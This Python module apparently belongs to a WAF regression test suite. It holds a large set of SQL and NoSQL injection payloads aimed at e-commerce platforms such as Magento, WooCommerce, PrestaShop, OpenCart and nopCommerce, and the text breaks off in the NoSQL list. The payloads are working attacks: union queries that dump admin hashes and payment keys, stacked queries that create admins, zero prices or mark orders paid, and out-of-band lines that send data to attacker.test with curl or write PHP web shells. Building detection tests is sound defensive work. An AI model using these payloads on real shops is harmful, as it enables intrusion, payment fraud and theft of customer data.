"""Blind set "twohundredseventh": SQL and NoSQL injection aimed at online shops and the services around them, with
benign requests that carry the same words innocently.

The angle: e-commerce and payment platforms, recalled from memory. Each payload is written the way it is thrown at
a shop: Magento/Adobe Commerce (catalogsearch q, layered-navigation price and product_list_order, admin_user,
sales_order, salesrule_coupon), WooCommerce and WordPress plugins (orderby, product_cat, apply_coupon, wp_users,
wp_postmeta, wc_order_stats), PrestaShop (id_product, orderby/orderway, ps_employee, ps_orders), OpenCart
(product_id, filter_name, sort/order, oc_user), Shopware (sSearch, sSort, s_user, s_core_auth), nopCommerce and
other .NET storefronts on SQL Server, Shopify and BigCommerce apps with their own Node/Mongo or PostgreSQL
backends, headless storefronts, cart and checkout APIs, coupon and gift-card endpoints, product search and faceted
filters, reviews and Q&A, order-tracking pages, invoice and label PDF generators, payment-provider callbacks and
webhooks (PayPal IPN txn_id/custom, 3-D Secure returns with MD/PaRes, Stripe and Adyen webhooks), ERP and
marketplace feed importers (CSV and XML rows whose SKU or EAN reaches an INSERT), and the shop admin. Each group
carries a comment naming its platform, its injection point and its target database (MySQL/MariaDB, PostgreSQL,
SQL Server, Oracle, SQLite, MongoDB).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole MongoDB filter documents (a Shopify
app's login or coupon lookup) go as the JSON body; Express/PHP bracket operators (`coupon[$ne]=x`) go as raw
`name=value` pairs. Payloads with control characters or non-ASCII never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, of the
shop platforms as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredseventh"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams that break out of the shop's string or number and turn the WHERE around
LIBINJECTION: list[Entry] = [
    # Magento 1 catalogsearch/result/?q= on a legacy custom search module, MySQL
    "sneakers' or '1'='1",
    "sneakers' or 1=1-- -",
    # WooCommerce plugin taking ?product_id= straight into $wpdb->get_results without prepare(), MySQL
    "17 or 1=1",
    "-1 or 2=2",
    # PrestaShop front module, id_product cast skipped in a custom ajax controller, MySQL
    "7) or (1=1",
    "7 or 1=1#",
    # OpenCart index.php?route=product/product&product_id=, MySQL
    "42' or 1=1#",
    "42'||1#",
    # Shopware 5 sSearch in a third-party plugin, double-quoted string, MySQL
    "\") or (\"a\"=\"a",
    "jacket\" or \"1\"=\"1\"#",
    # headless storefront: a custom GraphQL resolver builds SQL from the search argument, PostgreSQL
    "tee' or 1=1--",
    "') or true--",
    # cart API: quantity and item id are numeric in the UPDATE, MySQL
    "1 or 2>1",
    "3 or 1#",
    # WooCommerce apply_coupon through a custom coupon plugin, MySQL
    "SAVE10' or '1'='1'#",
    "WELCOME' or 1#",
    # nopCommerce gift card balance lookup (GiftCardCouponCode), SQL Server
    "GC-4411' or 1=1--",
    "4716190207394368' or 'a'='a'--",
    # order-tracking page (order id and billing e-mail), MySQL
    "100000123' or 1=1 limit 1#",
    "guest@shop.test' or 1=1#",
    # reviews widget rating filter, numeric, MySQL
    "5 or true",
    "4) or 1=1#",
    # BigCommerce app backend storing synced products in PostgreSQL
    "SKU-1' or 'a'='a'--",
    "' or 1::int=1--",
    # Oracle ATG Commerce profile lookup
    "' or 1=1 or 'a'='",
    "1 or 1=1 and rownum=1",
    # Magento 2 REST searchCriteria[filter_groups][0][filters][0][value] in a custom repository, MySQL
    "%' or 1=1-- -",
    "' or 1 like 1#",
]

# sql-tautology/boolean: the always-true condition, and the true/false pairs a blind extraction turns on
TAUTOLOGY: list[Entry] = [
    # WooCommerce product search ?s= inside a filter plugin, MySQL: the page differs between true and false
    "hoodie' and 1=1#",
    "hoodie' and 1=2#",
    # Magento layered navigation price range ?price=10-20 in a custom filter, MySQL
    "10-20 and 1=1",
    "10-20) and (1=2",
    # PrestaShop ajax controller, id_customer numeric: blind reads of the back-office employee table, MySQL
    "1 and (select count(*) from ps_customer)>0",
    "1 and (select substring(passwd,1,1) from ps_employee limit 1)='$'",
    # OpenCart admin user table, MySQL
    "1' and (select length(password) from oc_user where user_id=1)=40#",
    "1' and (select username from oc_user limit 1)='admin'#",
    # Magento admin_user, MySQL
    "1' and (select count(*) from admin_user where is_active=1)>0#",
    # WordPress core user table read through a WooCommerce add-on, MySQL
    "1 and (select user_login from wp_users where ID=1)='admin'",
    "1 and ord(mid((select user_pass from wp_users limit 1),1,1))=36",
    # Shopware backend users, MySQL
    "1' and exists(select 1 from s_core_auth where username='demo')#",
    # MySQL, the shop's WAF plugin bans '=': other operators that still say true
    "' or 3>2#",
    "' or not false#",
    "' or 1<=>1-- -",
    "' or 'sku'!='x'#",
    # PostgreSQL storefront (headless, Medusa-style) boolean probes
    "' and (select count(*) from pg_user)>0--",
    "' or true or '",
    "1 and current_user='postgres'",
    # nopCommerce on SQL Server
    "1 and (select count(*) from Customer)>0--",
    "' and db_name()='nopCommerce'--",
    "1 and is_srvrolemember('sysadmin')=1--",
    # Oracle ATG Commerce
    "' and (select count(*) from dps_user)>0--",
    "1 and (select user from dual)='ATGCORE'",
    # SQLite (small self-hosted shop, dev store)
    "' and (select count(*) from sqlite_master where tbl_name='orders')>0--",
    # coupon field: the oracle is whether the discount applies, MySQL
    "X' or (select count(*) from salesrule_coupon)>0#",
    "X' or exists(select * from wp_posts where post_type='shop_coupon')#",
    "X' and (select coupon_code from salesrule_coupon limit 1) like 'A%'#",
]

# sql-comment-sequence: comments that cut off the rest of the shop's query or split it between fields
COMMENT: list[Entry] = [
    # Magento admin login, custom SSO extension, MySQL: every MySQL comment style
    "shopadmin'-- -",
    "shopadmin'#",
    "storeowner'/*",
    # WooCommerce coupon lookup, MySQL: the rest (AND post_status='publish') goes
    "FREESHIP'-- ",
    "FREESHIP'#",
    # PrestaShop guest-tracking order reference, MySQL
    "XKBKNABJK'-- -",
    "XKBKNABJK' or 1=1-- -",
    # OpenCart filter_name, MySQL
    "iphone'#",
    "iphone') or 1=1#",
    # nopCommerce order number, SQL Server
    "ORD-1001'--",
    "ORD-1001';--",
    # PostgreSQL headless storefront, product handle
    "blue-mug'--",
    "1/**/or/**/1=1--",
    # Oracle ATG order tracking
    "TRACK123' or 1=1--",
    # MySQL, '#' and '-' stripped by a plugin: an unterminated C comment ends the query
    "SUMMER24' or 1=1/*",
    # two-field login (PrestaShop back office email + passwd): the comment opens in one and closes in the other
    "admin@shop.test'/*",
    "*/ or '1'='1'#",
    # Shopware sSort, the query continues with LIMIT: comment it away, MySQL
    "1 desc-- -",
    # MySQL comments instead of spaces in the cart item id
    "1'/**/or/**/'1'='1'/**/#",
    "2/**/or/**/2=2#",
    # MySQL, the statement ends early and the tail is commented
    "'; -- -",
    "1)-- -",
    "1))#",
    # MySQL, the line comment needs whitespace after it: a newline will do
    "ean-4006381333931'--\n",
    # SQLite dev store
    "' or 1=1 --",
    # PostgreSQL nested comment closing a block comment already open in the product filter
    "' or 1=1 /* /* */ */--",
    # SQL Server, comment after the gift-card code and ; before it
    "GIFT50';/*",
    # Oracle, comment after a closing parenthesis in the ATG price list query
    "') or 1=1--",
]

# union-select: read the shop's admin credentials, customer data or card vault through the visible columns
UNION: list[Entry] = [
    # Magento 1 legacy catalog module, product page with 4 columns, MySQL
    "-1' union select 1,username,password,email from admin_user-- -",
    "-1 union select 1,concat(firstname,0x3a,lastname),email,password_hash from customer_entity-- -",
    "0' union all select null,increment_id,customer_email,grand_total from sales_order#",
    # Magento core_config_data holds payment gateway keys
    "-1 union select 1,path,value,4 from core_config_data where path like 'payment/%'-- -",
    # WooCommerce add-on, MySQL
    "-1' union select 1,user_login,user_pass,user_email from wp_users-- -",
    "0 union select meta_key,meta_value from wp_postmeta where meta_key='_billing_email'",
    "1' union select 1,2,option_value from wp_options where option_name='woocommerce_stripe_settings'#",
    # PrestaShop, MySQL
    "-1 union select 1,email,passwd,4,5 from ps_employee-- -",
    "0' union select id_order,reference,total_paid from ps_orders#",
    "-1' union select 1,2,value from ps_configuration where name='PS_MAIL_PASSWD'-- -",
    # OpenCart, MySQL
    "-1' union select 1,username,password,salt from oc_user#",
    "0 union select customer_id,email,telephone,password from oc_customer-- -",
    # Shopware 5, MySQL
    "-1' union select id,username,password,email from s_core_auth-- -",
    # MySQL, read a config file the shop trusts through union
    "-1' union select 1,load_file('/var/www/html/app/etc/env.php'),3,4-- -",
    "0' union select 1,load_file('/var/www/html/wp-config.php')#",
    # MySQL, blind column count found with null padding
    "' union select null,null,null,null,null-- -",
    "' union select @@version,user(),database(),4#",
    # nopCommerce, SQL Server
    "-1 union select Id,Email,Username,null from Customer--",
    "' union select top 1 Password,PasswordSalt,null from CustomerPassword--",
    "0 union all select name,null,null from master..sysdatabases--",
    # PostgreSQL headless storefront
    "-1' union select id,email,password,null from account_user--",
    "' union select null,version(),current_database()--",
    "0 union select 1,string_agg(email,','),3 from customer--",
    # Oracle ATG Commerce
    "' union select login,password,null from dps_user--",
    "-1 union select null,banner,null from v$version--",
    # SQLite dev store
    "' union select 1,sql,3 from sqlite_master--",
    # MySQL, the union picks stored card fingerprints from a payment module table
    "-1' union select 1,cc_last4,cc_exp_month,cc_type from sales_order_payment-- -",
    "-1' UNION SELECT 1,quote_id,customer_email,remote_ip FROM quote_address-- -",
]

# stacked-queries: a second statement after a semicolon (PDO MySQL, SQL Server, PostgreSQL drivers allow it)
STACKED: list[Entry] = [
    # nopCommerce, SQL Server: make an attacker account admin
    "1; update Customer set Active=1 where Email='evil@attacker.test'--",
    "'; insert into Customer_CustomerRole_Mapping (Customer_Id,CustomerRole_Id) values (1337,1)--",
    "'; update GiftCard set Amount=99999 where GiftCardCouponCode='GC-4411'--",
    "1; drop table ShoppingCartItem--",
    # PrestaShop PDO with emulated prepares (multi statements on), MySQL
    "1; update ps_employee set passwd=md5('pwned') where id_employee=1;-- -",
    "0; insert into ps_cart_rule (code,reduction_percent,quantity,active) values ('PWN100',100,999,1);#",
    # Magento, MySQL
    "1; insert into admin_user (username,password,is_active) values ('ghost',sha2('x',256),1);-- -",
    "'; update salesrule set discount_amount=100 where rule_id=1;#",
    "1; update core_config_data set value='https://evil.test/' where path like 'web/%';-- -",
    # WooCommerce, MySQL
    "'; update wp_postmeta set meta_value='100' where meta_key='coupon_amount';-- -",
    "1; update wp_users set user_pass=md5('owned') where ID=1;#",
    "1;insert into wp_usermeta (user_id,meta_key,meta_value) values (9,'wp_capabilities',"
    "'a:1:{s:13:\"administrator\";b:1;}')#",
    # OpenCart, MySQL
    "1; update oc_product set price=0.01 where product_id=42;-- -",
    "'; update oc_order set order_status_id=5 where order_id=1001;#",
    # Shopware, MySQL
    "1; update s_order set status=2,cleared=12 where ordernumber='20001';-- -",
    # PostgreSQL headless storefront
    "'; update product_variant set price=0 where sku='TSHIRT-BLK-M';--",
    "1; create table pwn(x text); copy pwn from program 'id';--",
    "'; alter user shop with superuser;--",
    # PostgreSQL, payment webhook writes the event id into a status query
    "evt_1PZ7xYz'; update orders set payment_status='paid' where id=4711;--",
    # SQL Server via a PayPal IPN handler (txn_id)
    "9V123456AB789012C'; update Orders set PaymentStatusId=30 where Id=5012;--",
    "1;declare @q varchar(99);set @q='\\\\attacker.test\\x';exec master..xp_dirtree @q;--",
    # Oracle ATG, anonymous block through a stored procedure call
    "1; begin execute immediate 'grant dba to atguser'; end;--",
    # MySQL, prepared statement hides the keyword behind a string
    "1; set @s=concat('sel','ect sleep(5)'); prepare st from @s; execute st;#",
    "1;set @a=0x73656c65637420757365722829;prepare p from @a;execute p;-- -",
    # SQLite dev store (multi statements via executescript)
    "'; attach database '/var/www/shop/pub/x.php' as x; create table x.p (c text); --",
    "1; delete from coupon where code='STAFF50';--",
    # MySQL, the ERP feed importer runs each CSV SKU through multi_query
    "ABC-123'; truncate table cataloginventory_stock_item;-- -",
    "ABC-124'; update cataloginventory_stock_item set qty=0;#",
]

# time-based-blind: a checkout or callback that answers the same page either way; the delay is the oracle
TIME: list[Entry] = [
    # Magento catalog search (custom module), MySQL
    "shoes' and sleep(5)-- -",
    "shoes' and (select 1 from (select sleep(5))a)-- -",
    "1 and if(substring(version(),1,1)='8',sleep(5),0)",
    # WooCommerce orderby / product_cat in a filter plugin, MySQL
    "(select*from(select(sleep(10)))x)",
    "price and sleep(7)",
    "1' or if((select count(*) from wp_users)>0,sleep(5),0)#",
    # PrestaShop module, MySQL
    "1 and (select sleep(5) from ps_employee where id_employee=1 and substring(passwd,1,1)='$')",
    "1' and benchmark(5000000,md5('prestashop'))#",
    # OpenCart, MySQL
    "1' and if(ascii(substr((select password from oc_user limit 1),1,1))>52,sleep(4),0)#",
    "1'xor(if(now()=sysdate(),sleep(6),0))xor'z",
    # Shopware, MySQL: heavy query instead of sleep
    "1 and (select count(*) from information_schema.columns a,information_schema.columns b)",
    "1' and get_lock('shop',10)#",
    # PayPal IPN handler (custom field holds the order id), MySQL
    "1001' and sleep(8) and '1'='1",
    # Stripe webhook metadata order_id, PostgreSQL
    "4711' and 1=(select 1 from pg_sleep(5))--",
    "4711;select pg_sleep(5)--",
    "' || pg_sleep(6)--",
    "1 and (select case when (1=1) then pg_sleep(5) else pg_sleep(0) end) is null",
    # nopCommerce, SQL Server
    "1; waitfor delay '0:0:5'--",
    "'; if (select count(*) from Customer)>0 waitfor delay '0:0:7'--",
    "1) waitfor delay '00:00:05'--",
    "GC-4411'; if (substring(@@version,1,1)='M') waitfor delay '0:0:5'--",
    # 3-D Secure return (MD parameter) into an Oracle-backed gateway
    "' and 1=dbms_pipe.receive_message('x',8)--",
    "1 and dbms_lock.sleep(5) is null",
    "' || dbms_pipe.receive_message(chr(65),6) || '",
    # SQLite dev store
    "' and 1=randomblob(300000000)--",
    "1 and like('ABCDEFG',upper(hex(randomblob(500000000/2))))",
    # Adyen notification pspReference into MariaDB
    "8535296650153317' and sleep(5)#",
    "883580976999434D' or sleep(5)='",
]

# error-based: the shop prints its database error (debug mode left on), the message carries the data
ERROR: list[Entry] = [
    # Magento in developer mode, MySQL XPath errors
    "1' and extractvalue(1,concat(0x7e,(select password from admin_user limit 1)))-- -",
    "1 and updatexml(1,concat(0x7e,(select concat(username,0x3a,email) from admin_user limit 1),0x7e),1)",
    "' and extractvalue(rand(),concat(0x3a,(select value from core_config_data where path like '%key%' limit 1)))#",
    # WooCommerce with WP_DEBUG_DISPLAY on, MySQL
    "1 and extractvalue(1,concat(0x5c,(select user_pass from wp_users limit 1)))",
    "1' and updatexml(null,concat(0x0a,version()),null)-- -",
    # PrestaShop _PS_MODE_DEV_, MySQL double-query duplicate entry
    "1 and (select 1 from (select count(*),concat((select email from ps_employee limit 1),floor(rand(0)*2))x "
    "from information_schema.tables group by x)a)",
    "1' or row(1,1)>(select count(*),concat(database(),0x3a,floor(rand()*2))x from ps_orders group by x "
    "limit 1)#",
    # OpenCart, MySQL: BIGINT overflow and JSON errors
    "1' and exp(~(select * from (select username from oc_user limit 1)a))#",
    "1 and json_keys((select convert((select password from oc_user limit 1) using utf8)))",
    "1' and gtid_subset(concat(0x7e,(select user()),0x7e),1)#",
    "1 and polygon((select * from (select * from (select @@version)f)x))",
    # Shopware, MySQL name_const duplicate column
    "1 and (select * from (select name_const(version(),1),name_const(version(),1))a)",
    # nopCommerce custom errors off, SQL Server conversion errors name the value
    "1 and 1=convert(int,(select top 1 Email from Customer))--",
    "' and 1=convert(int,@@version)--",
    "1 and 1=cast((select top 1 Password from CustomerPassword) as int)--",
    "' and 1=(select top 1 name from sys.tables)--",
    "GC-1' + convert(varchar,(select db_name())) + 1--",
    # PostgreSQL headless storefront
    "1 and 1=cast((select email from account_user limit 1) as int)",
    "' and 1=cast(version() as numeric)--",
    "' and cast(current_user as int)=1--",
    "' and 1=(select password::int from account_user limit 1)--",
    # Oracle ATG Commerce
    "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "' and 1=utl_inaddr.get_host_name((select password from dps_user where rownum=1))--",
    "' and 1=(select upper(xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))) from dual)--",
    "1 and to_number((select banner from v$version where rownum=1))=1",
    # SQLite dev store: load_extension error leaks the string
    "' and load_extension((select password from users limit 1))--",
    # Magento invoice PDF generator (invoice_id into a raw query), MySQL
    "000000042' and extractvalue(0x0a,concat(0x0a,(select grand_total from sales_invoice limit 1)))#",
    "000000043' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)#",
]

# out-of-band: push the data to a host we control, or write a shell into the shop's document root
OOB: list[Entry] = [
    # MySQL on a Windows shop server: UNC path through DNS
    "1' and load_file(concat('\\\\\\\\',(select password from admin_user limit 1),'.oob.attacker.test\\\\a'))#",
    "1 union select load_file(concat(0x5c5c5c5c,version(),0x2e6f6f622e61747461636b65722e746573745c5c61))",
    "' or load_file('//attacker.test/share/x')#",
    # MySQL, write a web shell into Magento's pub/media, WooCommerce's uploads, PrestaShop's img
    "-1' union select '<?php system($_GET[c]);?>',2,3 into outfile '/var/www/html/pub/media/x.php'-- -",
    "-1 union select 0x3c3f70687020706173737468727528245f4745545b635d293b203f3e into dumpfile "
    "'/var/www/html/wp-content/uploads/s.php'",
    "1' into outfile '/var/www/prestashop/img/p.php' lines terminated by '<?php eval($_POST[1]);?>'-- -",
    "-1 union select 1,2,3 into outfile '/var/www/opencart/image/catalog/c.php' fields terminated by "
    "'<?=`$_GET[0]`?>'#",
    # MySQL, read files the shop trusts
    "' union select load_file('/var/www/shopware/config.php'),2#",
    "1 and load_file('/etc/passwd') is not null",
    # SQL Server (nopCommerce): make the server authenticate to our SMB host
    "1; exec master..xp_dirtree '\\\\oob.attacker.test\\share'--",
    "'; exec master.dbo.xp_fileexist '\\\\10.13.37.1\\s\\a.txt'--",
    "1; exec xp_subdirs '\\\\attacker.test\\c$'--",
    "'; declare @h varchar(200); select @h=(select top 1 Email from Customer)+'.oob.attacker.test'; "
    "exec('master..xp_dirtree \"\\\\'+@h+'\\x\"')--",
    "1; select * from openrowset('SQLOLEDB','server=attacker.test;uid=sa;pwd=x','select 1')--",
    # Oracle ATG Commerce
    "' and utl_http.request('http://oob.attacker.test/'||(select user from dual)) is not null--",
    "1 and (select utl_inaddr.get_host_address((select password from dps_user where rownum=1)||'.x.test') "
    "from dual) is not null",
    "' and httpuritype('http://attacker.test/'||(select banner from v$version where rownum=1)).getclob() "
    "is not null--",
    "' and dbms_ldap.init((select user from dual)||'.attacker.test',389) is not null--",
    "' union select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://attacker.test/o\"> %x;]>'),'/l') from dual--",
    # PostgreSQL headless storefront
    "'; select dblink_connect('host=attacker.test user=x password=y dbname=z');--",
    "1; copy (select email||':'||password from account_user) to program 'curl -d @- http://attacker.test/c';--",
    "'; copy (select '') to program 'nslookup '||current_user||'.attacker.test';--",
    "' union select pg_read_file('/etc/passwd',0,10000)--",
    "1; select lo_export(lo_from_bytea(0,'<?php system($_GET[1]);?>'),'/var/www/html/x.php');--",
    # SQLite dev store: attach under the web root
    "'; attach database '/var/www/html/media/y.php' as y; create table y.z (d text); "
    "insert into y.z values ('<?php system($_GET[2]);?>');--",
    # MySQL, ERP importer row: the SKU cell carries the exfiltration
    "SKU9' and (select load_file(concat('\\\\\\\\',hex(user()),'.x.attacker.test\\\\y')))#",
    "SKU10' union select 1 into outfile '/tmp/../var/www/html/pub/static/r.php'#",
    "1; exec master..xp_dirtree '//burp.oob.attacker.test/a'--",
]

# information-schema/catalog probing: find the order, customer and payment tables of an unknown shop schema
CATALOG: list[Entry] = [
    # MySQL, any shop: which tables hold orders and payments
    "-1' union select 1,group_concat(table_name),3 from information_schema.tables where "
    "table_schema=database()-- -",
    "-1 union select table_name,2 from information_schema.tables where table_name like '%order%'",
    "' union select column_name,data_type from information_schema.columns where table_name='sales_order_payment'#",
    "1' and (select count(*) from information_schema.tables where table_name='ps_employee')=1#",
    "-1' union select 1,group_concat(column_name) from information_schema.columns where "
    "table_name='wp_users'-- -",
    "' union select table_schema,table_name from information_schema.tables where table_name like '%_user'#",
    "1 and (select table_name from information_schema.tables where table_schema=database() limit 0,1) "
    "like 'oc_%'",
    "0' union select schema_name,null from information_schema.schemata#",
    "-1 union select 1,group_concat(table_name separator 0x3c62723e) from information_schema.columns "
    "where column_name like '%cc_%'-- -",
    # MySQL, information_schema blocked by the host: InnoDB statistics and sys schema
    "-1' union select 1,group_concat(table_name),3 from mysql.innodb_table_stats where "
    "database_name=database()#",
    "' union select table_name,null from sys.schema_table_statistics where table_schema like 'magento%'-- -",
    "-1 union select object_name,2 from sys.x$schema_flattened_keys",
    # MySQL, privileges and users of the shop database account
    "' union select grantee,privilege_type from information_schema.user_privileges#",
    "-1 union select user,authentication_string from mysql.user-- -",
    # PostgreSQL headless storefront
    "' union select table_name,null from information_schema.tables where table_schema='public'--",
    "' union select tablename,schemaname from pg_catalog.pg_tables--",
    "' union select attname,null from pg_attribute where attrelid='account_user'::regclass--",
    "1 and (select count(*) from pg_catalog.pg_namespace)>0",
    "' union select usename,passwd from pg_shadow--",
    # SQL Server (nopCommerce)
    "' union select name,null from sysobjects where xtype='U'--",
    "' union select table_name,column_name from information_schema.columns where table_name='Customer'--",
    "1 and (select count(*) from sys.columns where name like '%Card%')>0--",
    "' union select name,null from master..sysdatabases--",
    # Oracle ATG Commerce
    "' union select table_name,null from all_tables where owner='ATGCORE'--",
    "' union select column_name,data_type from all_tab_columns where table_name='DPS_USER'--",
    "' union select owner,null from all_users--",
    # SQLite dev store
    "' union select name,sql from sqlite_master where type='table'--",
    "1 and (select count(*) from pragma_table_info('orders'))>0",
]

# mysql-comment-obfuscation: version comments and comment-split keywords past a shop security plugin's filter
MYCOMMENT: list[Entry] = [
    # Magento, an extension's input filter blocks plain 'union select': version comments still run on MySQL
    "-1' /*!50000union*/ /*!50000select*/ 1,username,password,4 from admin_user-- -",
    "-1 /*!UNION*/ /*!SELECT*/ 1,2,3-- -",
    "-1'/*!12345union*//*!12345select*/1,user(),3#",
    "0 /*!00000union all select*/ 1,2,3",
    # WooCommerce security plugin blocks 'or 1=1'
    "' /*!or*/ 1=1#",
    "' /*!50000or*/ '1'='1'-- -",
    "1 /*!and*/ sleep(5)",
    "1'/*!50700and*/(select 1 from(select sleep(5))x)#",
    # PrestaShop, keywords split by empty comments where the filter strips comments first
    "-1 uni/**/on sel/**/ect 1,email,passwd from ps_employee",
    "1 an/**/d 1=1",
    # OpenCart, comments instead of spaces everywhere
    "-1'/**/union/**/select/**/1,username,password/**/from/**/oc_user#",
    "1'/**/and/**/extractvalue(1,concat(0x7e,user()))#",
    # Shopware, comments with junk inside
    "-1 union/*sSearch*/select/*x*/1,2,3-- -",
    "1'/*!*/or/*!*/1=1#",
    "1' /*foo*/ or /*bar*/ 1 /*baz*/ = /*qux*/ 1 #",
    # MySQL, '#' line comment with a newline between keywords
    "-1 union#sku\nselect 1,2,3",
    "1' or#coupon\n1=1#",
    "-1 union-- x\nselect 1,2,3-- -",
    # MySQL, version comment guards
    "1 /*!32302 and 1=1*/",
    "1' /*!40000 or 1=1*/#",
    "-1 /*!50000union*/ select /*!50000concat*/(email,0x3a,password_hash) from customer_entity-- -",
    # MySQL executable comment carrying a whole statement
    "1 /*!union select user_login,user_pass from wp_users*/",
    # MySQL, mixed case inside version comments
    "-1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2,3-- -",
    "1' /*!50000AnD*/ 1=0 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2#",
    # MySQL, comment hiding the space between a function and its parenthesis
    "1' and sleep/**/(5)#",
    "1 or benchmark/*x*/(3000000,sha1(1))",
    "-1 union select/*!50000*/group_concat/**/(table_name) from information_schema.tables",
    "1'--%0aunion--%0aselect--%0a1,2,3#",
]

# function-based-probing: character-by-character reads of the shop's secrets
FUNCTION: list[Entry] = [
    # Magento, MySQL: the encryption key in app/etc/env.php is not in the DB, but the admin hash is
    "1' and substring((select password from admin_user limit 1),1,1)='a'#",
    "1 and ascii(substring((select password from admin_user limit 1),2,1))>96",
    "1' and mid((select email from admin_user limit 1),1,5)='admin'#",
    # WooCommerce, MySQL
    "1 and ord(substr((select user_pass from wp_users where ID=1),4,1))=66",
    "1' and left((select user_login from wp_users limit 1),5)='admin'-- -",
    "1 and length((select user_pass from wp_users where ID=1))=34",
    # PrestaShop, MySQL: the cookie key is in the config, the employee hash in the DB
    "1 and ascii(mid((select passwd from ps_employee limit 1),8,1))<80",
    "1' and hex(substr((select email from ps_employee limit 1),1,1))='61'#",
    # OpenCart, MySQL
    "1' and instr((select password from oc_user limit 1),'a')>0#",
    "1 and locate('f',(select salt from oc_user limit 1))=1",
    # MySQL, concat of several columns in one probe
    "1' and concat(char(97),char(100),char(109),char(105),char(110))=(select username from admin_user limit 1)#",
    "-1' union select 1,concat_ws(0x3a,user(),database(),version()),3-- -",
    "-1 union select 1,group_concat(concat(email,0x3a,passwd)) from ps_customer-- -",
    # MySQL, bit-by-bit read (no comparison of characters at all)
    "1 and (ascii(substring((select user_pass from wp_users limit 1),1,1))&1)=1",
    "1 and strcmp(substring(user(),1,4),'root')=0",
    # PostgreSQL headless storefront
    "1 and ascii(substr((select password from account_user limit 1),1,1))>64",
    "' and substring(current_database(),1,1)='s'--",
    "' and chr(115)||chr(104)||chr(111)||chr(112)=current_user--",
    "1 and length((select string_agg(email,',') from customer))>100",
    # SQL Server (nopCommerce)
    "1 and ascii(substring((select top 1 Email from Customer),1,1))=97--",
    "' and unicode(substring(db_name(),1,1))=110--",
    "' and left(system_user,2)='sa'--",
    "1 and char(110)+char(111)+char(112)=lower(left(db_name(),3))--",
    # Oracle ATG
    "' and ascii(substr((select password from dps_user where rownum=1),1,1))>70--",
    "' and substr(user,1,3)='ATG'--",
    "' and concat(chr(65),chr(84))=substr((select user from dual),1,2)--",
    # SQLite dev store
    "' and unicode(substr((select password from users limit 1),1,1))>70--",
    "' and substr(sqlite_version(),1,1)='3'--",
]

# sql-authentication-bypass: shop customer, back-office and API-key logins
AUTH: list[Entry] = [
    # Magento customer/account/loginPost login[username], custom auth extension, MySQL
    "customer@shop.test' or '1'='1",
    "' or 1=1 limit 1-- -",
    "admin@shop.test'-- -",
    # Magento admin, a custom 2FA module checks the user by name
    "admin' or 'x'='x",
    "admin')-- -",
    # WooCommerce my-account username via a custom login plugin, MySQL
    "' or user_login like '%admin%'#",
    "shopmanager' or '1'='1'-- -",
    # WordPress: union a known phpass hash for 'password' into the login row
    "' union select 1,'admin','$P$BZlPX7NIx8MYpXokBW2AGsN7i.aUOt0','admin',0,'a@b.c'-- -",
    # PrestaShop back-office email + passwd
    "admin@prestashop.test' or 1=1-- -",
    "') or ('a'='a",
    # OpenCart admin: the query compares SHA1(CONCAT(salt, ...)): union a known salt and hash
    "' union select 1,1,'admin','d033e22ae348aeb5660fc2140aec35850c4da997','','','',1,'',1,now()-- -",
    "admin'#",
    # Shopware backend auth (sha256 or md5 legacy), MySQL
    "demo' or 1=1#",
    "x' or username like 'de%'#",
    # nopCommerce, SQL Server
    "admin@yourstore.com'--",
    "' or 1=1--",
    "'or''='",
    "' or 'a'='a'--",
    # PostgreSQL storefront, account_user by email
    "' or 1=1 limit 1--",
    "admin@shop.test' or true--",
    # Oracle ATG: profile login
    "' or 1=1 and rownum=1--",
    # shop API key check: X-Api-Key compared in SQL, MySQL
    "sk_live_x' or '1'='1",
    "' or api_key is not null#",
    # gift-card balance page requires code + PIN
    "GC-0000' or pin is not null-- -",
    # order-status page: order number + postcode
    "100000001' or postcode like '%'#",
    # MySQL, password field: the hash comparison is closed and negated
    "x') or ('1'='1",
    "') or 1=1 or ('",
    "' or 1 or '",
]

# nosql-injection: Shopify and BigCommerce apps, headless carts and coupon services on Node/Express + MongoDB
NOSQL: list[Entry] = [
    # Shopify app admin login (Express body-parser extended: bracket syntax becomes an operator)
    ("email[$ne]=nobody@shop.test&password[$ne]=x", *KV),
    ("username[$gt]=&password[$gt]=", *KV),
    ("email[$regex]=^admin&password[$ne]=1", *KV),
    ("email[$exists]=true&password[$exists]=true", *KV),
    # coupon service: find({code: req.body.code}) applies any coupon
    ("code[$ne]=INVALID", *KV),
    ("code[$regex]=.*&cart_id=8f2c", *KV),
    ("coupon[$gt]=", *KV),
    ("giftcard[$nin][]=GC-0000", *KV),
    # order-tracking: find({orderId, email})
    ("orderId[$exists]=true&email[$ne]=", *KV),
    ("order_number[$regex]=^10&email[$regex]=.*", *KV),
    # whole JSON documents as the request body (headless cart API, BigCommerce app backend)
